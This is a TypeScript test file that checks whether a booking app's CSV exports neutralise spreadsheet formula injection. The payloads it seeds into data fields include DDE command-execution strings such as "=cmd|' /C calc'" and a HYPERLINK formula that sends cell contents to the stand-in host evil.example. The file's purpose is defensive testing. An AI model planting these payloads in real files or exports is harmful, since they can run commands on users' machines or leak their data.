import { db } from '@ilewa/server/platform/database/database'
import { parse } from 'csv-parse/sync'
import { sql } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { type AccessFixture, createAccessFixture } from '../support/access/access-fixture.ts'
import { businessCalls } from '../support/access/access-table.ts'
import { readContract } from '../support/access/contract.ts'
import { markEverything } from '../support/access/tampering.ts'
import { aPastBooking } from '../support/app/past-bookings.ts'
import { useTestApp } from '../support/app/test-app.ts'
import { aRegisterEntry } from '../support/visits/guest-register.ts'

const app = useTestApp()
const contract = await readContract()
/** Files with parameters are import templates, which contain no user input. */
const files = [...contract.values()].filter(({ file, params }) => file === 'text/csv' && !params)

let fixture: AccessFixture
beforeAll(async () => {
  fixture = await createAccessFixture(app)
  const past = { property: fixture.property, nights: [-9, -6], total: 90_000 } as const
  const id = await aPastBooking(fixture.owner, past)
  await aRegisterEntry(app, fixture.owner, { id })
})

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"here")',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '"=1+1"',
  "'=1+1",
  '`=1+1',
  'a\n=1+1',
  'x",=1+1,"y',
]

const formulaPattern = /^[\s\p{Cf}"`]*[=+\-@\t\r＝＋－＠]/u
const numberPattern = /^-?\d+(\.\d+)?$/

describe.each(files)('the file of $path', (definition) => {
  const row = businessCalls.find(({ call }) => call === `${definition.method} ${definition.path}`)
  const tables = definition.path.startsWith('/analytics')
    ? ['properties', 'trend', 'months', 'sources', 'guests']
    : [undefined]

  const cellsOf = async (table: string | undefined) => {
    const query = { ...row?.query?.(fixture), ...(table && { table }) }
    const { status, body } = await app.send(definition, { query }, { token: fixture.tokens.owner })
    expect(status).toBe(200)
    const lines: string[][] = parse(String(body.data), { bom: true })
    expect(lines.length).toBeGreaterThan(1)
    return lines.flat()
  }

  it.each(formulas)('does not let a spreadsheet run %j', async (formula) => {
    await markEverything(fixture.owner, formula)
    await db().execute(
      sql`UPDATE inventory_items SET category = ${formula}, location = ${formula} WHERE business_id = ${fixture.owner.businessId}`,
    )
    // Only the properties table contains user input.
    for (const table of formula === formulas[0] ? tables : [tables.find((name) => name === 'properties')]) {
      for (const cell of await cellsOf(table))
        expect(formulaPattern.test(cell) && !numberPattern.test(cell), cell).toBe(false)
    }
  })

  it.each(['x;=1+1', 'x;"=1+1";y', "x;'=1+1", 'x\t@SUM(1)', 'x\n=1+1', 'x; +1+1'])(
    'does not let a spreadsheet run %j where cells are separated by semicolons or tabs',
    async (text) => {
      await markEverything(fixture.owner, text)
      const query = { ...row?.query?.(fixture), ...(tables[0] && { table: 'properties' }) }
      const { body } = await app.send(definition, { query }, { token: fixture.tokens.owner })
      expect(String(body.data)).toMatch(/"x[;\t\n]/)
      for (const delimiter of [';', '\t']) {
        const parseOptions = { delimiter, bom: true, relax_quotes: true, relax_column_count: true }
        const lines: string[][] = parse(String(body.data), parseOptions)
        // The export inserts an apostrophe before a formula at such a place, which makes it text.
        for (const cell of lines.flat()) expect(/^[\s\p{Cf}`]*"?[=@+＝＠]/u.test(cell), cell).toBe(false)
      }
    },
  )

  it('does not change numbers', async () => {
    for (const table of tables) {
      const cells = await cellsOf(table)
      expect(cells.some((cell) => numberPattern.test(cell))).toBe(true)
      // Account numbers are text: a spreadsheet would drop their first 0.
      expect(cells.filter((cell) => /^'-?(?!0\d)\d{1,15}(\.\d+)?$/.test(cell))).toEqual([])
      expect(cells.filter((cell) => /^0\d+$/.test(cell))).toEqual([])
    }
  })
})
